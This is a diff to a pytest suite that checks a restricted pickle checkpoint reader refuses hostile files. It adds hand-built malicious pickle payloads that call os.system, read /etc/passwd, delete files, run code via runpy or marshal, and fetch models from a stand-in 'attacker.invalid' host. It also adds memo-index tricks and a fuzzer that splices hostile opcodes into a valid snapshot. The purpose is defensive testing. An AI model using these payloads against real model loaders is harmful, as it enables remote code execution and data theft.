@@ -6,6 +6,8 @@ never reach the dangerous functions (they are replaced by recorders for the test
 """
 from __future__ import annotations
 
+import contextlib
+import importlib
 import io
 import os
 import pickle
@@ -17,10 +19,13 @@ import time
 import tracemalloc
 from collections import OrderedDict
 from pathlib import Path
+from unittest import mock
 
 import numpy as np
 import pytest
 import torch
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from eg3d_pickle import GlobalName, Reduce, module_state, persistent, write_eg3d_pickle
 from renderer.checkpoint import read_checkpoint
@@ -32,6 +37,7 @@ REPO = Path(__file__).resolve().parent.parent
 P2, P4, STOP = b'\x80\x02', b'\x80\x04', b'.'
 MARK, TUPLE1, EMPTY_TUPLE, REDUCE, BUILD = b'(', b'\x85', b')', b'R', b'b'
 EMPTY_DICT, SETITEM, NEWOBJ, NONE, TUPLE2 = b'}', b's', b'\x81', b'N', b'\x86'
+NEWOBJ_EX, MEMOIZE, BINGET0, LONG_BINGET = b'\x92', b'\x94', b'h', b'j'
 
 
 def su(text: str) -> bytes:
@@ -101,9 +107,14 @@ def canary(tmp_path) -> Path:
     return tmp_path / 'CANARY'
 
 
-@pytest.fixture(autouse=True)
-def guarded(monkeypatch, canary):
-    """Dangerous entry points record calls instead of running; nothing may be newly imported."""
+DANGEROUS = [(os, 'system'), (subprocess, 'Popen'), (torch, 'load'), (pickle, 'loads'), (shutil, 'rmtree'),
+             (np, 'load'), (importlib, 'import_module')]
+
+
+@contextlib.contextmanager
+def no_side_effects(canary: Path):
+    """Dangerous entry points record calls instead of running; afterwards none was called, the canary
+    file does not exist and no module was imported."""
     calls: list[str] = []
 
     def recorder(name):
@@ -111,23 +122,69 @@ def guarded(monkeypatch, canary):
             calls.append(name)
             raise RuntimeError(f'{name} must never be called by the reader')
         return record
-    for owner, name in [(os, 'system'), (subprocess, 'Popen'), (torch, 'load'),
-                        (pickle, 'loads'), (shutil, 'rmtree'), (np, 'load'),
-                        (__import__('importlib'), 'import_module')]:
-        monkeypatch.setattr(owner, name, recorder(f'{owner.__name__}.{name}'))
-    modules_before = set(sys.modules)
-    yield
+    with contextlib.ExitStack() as stack:
+        for owner, name in DANGEROUS:
+            stack.enter_context(mock.patch.object(owner, name, recorder(f'{owner.__name__}.{name}')))
+        modules_before = set(sys.modules)
+        yield
     assert calls == []
     assert not canary.exists()
     assert set(sys.modules) - modules_before == set()
     assert not [m for m in sys.modules if m.split('.')[0] in ('torch_utils', 'training', 'dnnlib')]
 
 
+GUARDS_ITSELF = {'test_spliced_hostile_opcodes_give_only_checkpoint_errors'}
+"""Tests that guard each read themselves (hypothesis imports modules between examples)."""
+
+
+@pytest.fixture(autouse=True)
+def guarded(request, canary):
+    """Every test in this module runs under `no_side_effects`."""
+    if request.function.__name__ in GUARDS_ITSELF:
+        yield
+        return
+    with no_side_effects(canary):
+        yield
+
+
+MAX_SECONDS = 15.0
+"""Every hostile file is refused within this time (generous: 2 shared CPU cores, tracemalloc on; the
+summary prints the real worst case)."""
+MAX_PEAK_BYTES = 32 * 2**20
+"""...and with at most this much Python-level memory allocated at the peak (tracemalloc)."""
+MEASURED: list[tuple[str, float, int]] = []
+"""(test id, seconds, peak bytes) of every refused file, for the corpus summary."""
+
+
+@pytest.fixture(scope='module', autouse=True)
+def corpus_summary():
+    """Print how many hostile files were refused and the worst time and memory peak (pytest -s)."""
+    yield
+    if MEASURED:
+        worst_t = max(MEASURED, key=lambda m: m[1])
+        worst_m = max(MEASURED, key=lambda m: m[2])
+        print(f'\n[hostile corpus] {len(MEASURED)} files refused with CheckpointError; slowest '
+              f'{worst_t[1] * 1000:.0f} ms ({worst_t[0]}); largest peak {worst_m[2] / 2**20:.2f} MiB ({worst_m[0]})')
+    if FUZZ_RUNS[0]:
+        print(f'[hostile fuzz] {FUZZ_RUNS[0]} spliced snapshots read: CheckpointError or a clean read only')
+
+
 def refused(tmp_path: Path, data: bytes, *words: str) -> str:
+    """Write `data`, read it: CheckpointError naming the file and `words`, in bounded time and memory."""
     path = tmp_path / 'hostile.pkl'
     path.write_bytes(data)
-    with pytest.raises(CheckpointError) as info:
-        read_checkpoint(path)
+    tracemalloc.start()
+    start = time.perf_counter()
+    try:
+        with pytest.raises(CheckpointError) as info:
+            read_checkpoint(path)
+        elapsed = time.perf_counter() - start
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    MEASURED.append((os.environ.get('PYTEST_CURRENT_TEST', '?').split(' ')[0], elapsed, peak))
+    assert elapsed < MAX_SECONDS, f'took {elapsed:.2f} s'
+    assert peak < MAX_PEAK_BYTES + 2 * len(data), f'peak {peak} bytes'
     message = str(info.value)
     assert message.startswith(f'{path}: '), message
     for word in words:
@@ -185,6 +242,36 @@ HOSTILE_GLOBALS = {
         + as_arg(((0,), b'b')) + REDUCE + STOP, 'numpy.core.multiarray._reconstruct'),
     'copyreg._reconstructor': (lambda c: P2 + g('copyreg', '_reconstructor') + g('os', 'system')
                                + STOP, 'copyreg._reconstructor'),
+    'torch.hub.load': (lambda c: P4 + sg('torch.hub', 'load') + su('attacker/repo') + su('model')
+                       + TUPLE2 + REDUCE + STOP, 'torch.hub.load'),
+    'torch.hub.load_state_dict_from_url': (lambda c: P4 + sg('torch.hub', 'load_state_dict_from_url')
+                                           + su('http://attacker.invalid/x.pt') + TUPLE1 + REDUCE + STOP,
+                                           'torch.hub.load_state_dict_from_url'),
+    'torch.hub.download_url_to_file': (lambda c: P4 + sg('torch.hub', 'download_url_to_file')
+                                       + su('http://attacker.invalid/x') + su(str(c)) + TUPLE2 + REDUCE
+                                       + STOP, 'torch.hub.download_url_to_file'),
+    'numpy.fromfile': (lambda c: P4 + sg('numpy', 'fromfile') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
+                       'numpy.fromfile'),
+    'numpy.loadtxt': (lambda c: P4 + sg('numpy', 'loadtxt') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
+                      'numpy.loadtxt'),
+    'numpy.lib.format.read_array': (lambda c: P4 + sg('numpy.lib.format', 'read_array') + su(str(c))
+                                    + TUPLE1 + REDUCE + STOP, 'numpy.lib.format.read_array'),
+    'builtins.open (writes a file)': (lambda c: P4 + sg('builtins', 'open') + su(str(c)) + su('w') + TUPLE2
+                                      + REDUCE + STOP, 'builtins.open'),
+    'builtins.__import__': (lambda c: P4 + sg('builtins', '__import__') + su('os') + TUPLE1 + REDUCE + STOP,
+                            'builtins.__import__'),
+    'os.remove': (lambda c: P4 + sg('os', 'remove') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
+                  'os.remove'),
+    'runpy.run_path': (lambda c: P4 + sg('runpy', 'run_path') + su(str(c)) + TUPLE1 + REDUCE + STOP,
+                       'runpy.run_path'),
+    'marshal.loads': (lambda c: P4 + sg('marshal', 'loads') + binbytes(b'\xe3') + TUPLE1 + REDUCE + STOP,
+                      'marshal.loads'),
+    'ctypes.CDLL': (lambda c: P4 + sg('ctypes', 'CDLL') + su('libc.so.6') + TUPLE1 + REDUCE + STOP, 'ctypes.CDLL'),
+    'NEWOBJ_EX of a refused class': (lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],))
+                                     + EMPTY_DICT + NEWOBJ_EX + STOP, 'subprocess.Popen'),
+    'memo: module and name strings fetched back for STACK_GLOBAL': (
+        lambda c: P4 + su('os') + MEMOIZE + su('system') + MEMOIZE + b'00' + BINGET0 + b'\x00' + BINGET0
+        + b'\x01' + b'\x93' + su(touch(c)) + TUPLE1 + REDUCE + STOP, 'os.system'),
     'torch.Tensor in the outer pickle': (lambda c: P4 + sg('torch', 'FloatStorage') + STOP,
                                          'torch.FloatStorage'),
     'hidden deep inside a snapshot': (
@@ -223,6 +310,34 @@ def test_protocol_0_pickles_are_not_even_unpickled(tmp_path, canary):
 def test_global_names_are_sanitised_in_messages(tmp_path):
     message = refused(tmp_path, P4 + sg('os\x1b[31m', 'x' * 5000) + STOP, 'refused global')
     assert '\x1b' not in message and len(message) < 600
+
+
+@pytest.mark.parametrize('data,words', [
+    (P4 + BINGET0 + b'\x07' + STOP, 'corrupt'),                                # memo slot never filled
+    (P4 + LONG_BINGET + struct.pack('<I', 2**32 - 1) + STOP, 'corrupt'),       # 4 G-entry memo index
+    (P2 + b'g999999999999\n' + STOP, 'corrupt'),                               # text GET, huge index
+    (P4 + sg('collections', 'OrderedDict') + MEMOIZE + b'0' + su('x') + MEMOIZE + b'0'
+     + BINGET0 + b'\x01' + EMPTY_TUPLE + REDUCE + STOP, 'corrupt'),           # memo slot swapped to a str
+    (P4 + NONE + b'r' + struct.pack('<I', 2**31) + STOP, 'memo index 2147483648 runs ahead'),
+    (P2 + NONE + b'p4000000000\n' + STOP, 'memo index 4000000000 runs ahead'),
+    (P4 + storage_call(legacy_blob(1, b'\x00' * 4, main=P2 + NONE + b'r' + struct.pack('<I', 2**30) + STOP))
+     + STOP, 'runs ahead'),
+], ids=['unset slot', 'huge LONG_BINGET', 'huge text GET', 'callable swapped for a str', 'huge LONG_BINPUT',
+        'huge text PUT', 'huge LONG_BINPUT in a storage blob'])
+def test_memo_tricks(tmp_path, data, words):
+    refused(tmp_path, data, words)
+
+
+def test_memo_built_self_reference_in_settings(tmp_path):
+    """A kwargs dict that holds itself (through the memo) is refused, not followed forever."""
+    loop = EMPTY_DICT + MEMOIZE + su('self') + BINGET0 + b'\x00' + SETITEM
+    data = in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj') + EMPTY_DICT + MARK
+                       + su('type') + su('class') + su('version') + as_arg(6) + su('class_name')
+                       + su('TriPlaneGenerator') + su('state') + EMPTY_DICT + MARK
+                       + su('_init_kwargs') + loop + su('rendering_kwargs') + EMPTY_DICT
+                       + su('neural_rendering_resolution') + as_arg(64) + b'u' + b'u' + TUPLE1 + REDUCE)
+    # the memo is shared by the whole pickle: index 0 is the first MEMOIZE, the looping dict itself
+    refused(tmp_path, data, 'too large or too deeply nested')
 
 
 def test_extension_codes_are_refused(tmp_path):
@@ -347,14 +462,8 @@ def test_load_from_bytes_needs_bytes(tmp_path):
 
 def test_storage_claiming_a_trillion_elements_fails_fast(tmp_path):
     data = P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP
-    tracemalloc.start()
-    try:
-        start = time.perf_counter()
-        refused(tmp_path, data, '1000000000000 elements')
-        elapsed = time.perf_counter() - start
-        _, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
+    refused(tmp_path, data, '1000000000000 elements')
+    _, elapsed, peak = MEASURED[-1]
     assert elapsed < 1.0
     assert peak < 5 * 2**20, peak
 
@@ -407,6 +516,12 @@ def test_zip_format_torch_save(tmp_path):
     refused(tmp_path, ZIP_TORCH_SAVE, 'zip-format torch.save files are not supported')
 
 
+def test_zip_format_torch_save_inside_a_snapshot(tmp_path):
+    """A zip torch.save handed to the storage loader, or as the data of a tensor, is parsed as data only."""
+    refused(tmp_path, P4 + storage_call(ZIP_TORCH_SAVE) + STOP, 'storage blob')
+    refused(tmp_path, in_snapshot(rebuild_call(ZIP_TORCH_SAVE, 0, (1,), (1,))), 'storage blob')
+
+
 RSS_PROBE = """
 import sys, time
 from renderer.checkpoint import read_checkpoint
@@ -447,6 +562,7 @@ def real_subprocess(monkeypatch):
 @pytest.mark.parametrize('name,data', [
     ('2 GB BINBYTES on a 1 KB file', P4 + b'B' + struct.pack('<I', 2 * 10**9) + b'\x00' * 1000),
     ('2**60 BINBYTES8 on a 1 KB file', P4 + b'\x8e' + struct.pack('<Q', 2**60) + b'\x00' * 1000),
+    ('LONG_BINPUT 2**31 on a 1 KB file', P4 + NONE + b'r' + struct.pack('<I', 2**31) + b'\x00' * 1000),
     ('trillion-element storage', P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP),
 ])
 @pytest.mark.skipif(not os.path.exists('/proc/self/status'), reason='needs Linux /proc for peak RSS')
@@ -507,4 +623,56 @@ def test_deep_nesting(tmp_path):
                        + su('_init_kwargs') + nested + su('rendering_kwargs') + EMPTY_DICT
                        + su('neural_rendering_resolution') + as_arg(64) + b'u' + b'u' + TUPLE1 + REDUCE)
     refused(tmp_path, data, 'too large or too deeply nested')
+
+
+# --------------------------------------------------------------------------- fuzzing with hostile opcodes
+
+def _valid_snapshot() -> bytes:
+    spec = ModelSpec(init_kwargs={'z_dim': 4}, rendering_kwargs={
+        'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
+        neural_rendering_resolution=64)
+    import tempfile
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / 'snap.pkl'
+        write_eg3d_pickle(path, spec, {'decoder.net.0.weight': torch.ones(2, 3),
+                                       'backbone.mapping.w_avg': torch.arange(4.0)}, module_src='')
+        return path.read_bytes()
+
+
+VALID_SNAPSHOT = _valid_snapshot()
+SPLICES = [sg('os', 'system'), g('os', 'system'), sg('builtins', 'eval'), sg('torch.hub', 'load'),
+           sg('numpy', 'load'), sg('collections', 'OrderedDict'), sg('torch._utils', '_rebuild_tensor_v2'),
+           sg('torch.storage', '_load_from_bytes'), REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, MARK, b'o', b'i', b'Q',
+           MEMOIZE, BINGET0 + b'\x00', BINGET0 + b'\xff', LONG_BINGET + b'\xff\xff\xff\x7f', EMPTY_DICT,
+           EMPTY_TUPLE, TUPLE1, TUPLE2, SETITEM, STOP, NONE, su('touch /tmp/x'), su('storage'),
+           storage_call(FIVE_FLOATS), storage_call(legacy_blob(10**12, b'')), b'B' + struct.pack('<I', 2**31),
+           b'\x8e' + struct.pack('<Q', 2**62), b']' * 64, b'0', b'1', b'2', b'\x82\x01']
+"""Opcode snippets spliced into a valid snapshot: globals, calls, memo reads, huge lengths, stack edits."""
+FUZZ_EXAMPLES = 400
+FUZZ_RUNS = [0]
+
+
+@settings(max_examples=FUZZ_EXAMPLES, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(splices=st.lists(st.tuples(st.integers(0, len(VALID_SNAPSHOT)), st.sampled_from(SPLICES)),
+                        min_size=1, max_size=6))
+def test_spliced_hostile_opcodes_give_only_checkpoint_errors(tmp_path, splices):
+    """Any mix of hostile opcodes spliced anywhere into a valid snapshot: CheckpointError or a clean
+    read, never another exception; the guard fixture proves nothing ran and nothing was imported."""
+    FUZZ_RUNS[0] += 1
+    data = bytearray(VALID_SNAPSHOT)
+    for pos, snippet in sorted(splices, key=lambda x: -x[0]):
+        data[pos:pos] = snippet
+    path = tmp_path / 'spliced.pkl'
+    path.write_bytes(bytes(data))
+    start = time.perf_counter()
+    try:
+        with no_side_effects(tmp_path / 'CANARY'):
+            ckpt = read_checkpoint(path)
+    except CheckpointError as e:
+        assert str(e).startswith(f'{path}: ')
+    else:
+        assert ckpt.spec.extra['class_name'] == 'TriPlaneGenerator'
+        assert all(isinstance(t, torch.Tensor) for t in ckpt.state_dict.values())
+    assert time.perf_counter() - start < MAX_SECONDS
 
